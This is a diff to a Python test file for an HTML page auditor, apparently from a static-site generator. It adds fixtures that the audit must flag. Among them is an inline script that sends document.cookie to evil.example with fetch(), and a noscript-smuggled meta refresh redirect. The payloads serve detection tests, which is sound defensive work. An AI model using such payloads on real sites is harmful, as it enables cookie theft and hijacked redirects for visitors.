@@ -14,7 +14,12 @@ from generator.audit import _resolve, _target, audit, policy
 from tests.conftest import TODAY, write_config
 from tests.golden import FIXTURE
 
-THEME_SCRIPT = '<script>__md_scope=new URL("..",location),__md_hash=e=>0</script>'
+# Material's first inline script, as it writes it on a page two folders down.
+THEME_SCRIPT = (
+    '<script>__md_scope=new URL("..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
+    '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
+    '__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}</script>'
+)
 
 
 def findings(tmp_path: Path, body: str) -> list[str]:
@@ -38,6 +43,9 @@ def findings(tmp_path: Path, body: str) -> list[str]:
         ('<base href="https://evil.example/">', "page.html: <base> element"),
         ('<meta http-equiv="refresh" content="0;url=https://evil.example">', 'page.html: <meta http-equiv="refresh">'),
         ("<script>alert(1)</script>", "page.html: an inline script the theme does not ship: 'alert(1)'"),
+        # The start of one of the theme's scripts is not the theme's script.
+        ('<script>var palette=__md_get("__palette");fetch("//evil.example/"+document.cookie)</script>',
+         "page.html: an inline script the theme does not ship: 'var palette=__md_get(\"__palette\");fetch(\"//evil.example/\"+do'"),
         ('<script type="application/ld+json">{"a": </script>', "page.html: a application/ld+json block that does not parse"),
     ],
 )
@@ -118,3 +126,13 @@ def test_a_link_is_followed_where_a_url_parser_would_follow_it(page: str, href: 
     """The audit resolves plain relative links itself (ten times faster than urljoin); the
     result is urljoin's."""
     assert _target(page, href) == _resolve(page, href)
+
+
+def test_noscript_is_read_as_browsers_with_and_without_javascript_read_it(tmp_path: Path):
+    """With JavaScript a <noscript> holds text up to its end tag, so a quoted '</noscript>' ends it
+    and what follows is markup; without JavaScript what it holds is markup. Both are audited."""
+    smuggled = """<noscript><p title="</noscript><meta http-equiv=refresh content='0;url=elsewhere'>"></p></noscript>"""
+    assert findings(tmp_path, smuggled) == ['page.html: <meta http-equiv="refresh"> (as a browser reads the page)']
+    assert findings(tmp_path, '<noscript><meta http-equiv="refresh" content="0"><a href="gone/">x</a></noscript>') == [
+        'page.html: <meta http-equiv="refresh">', "page.html: a link to 'gone/', which is no page or file of the site",
+    ]
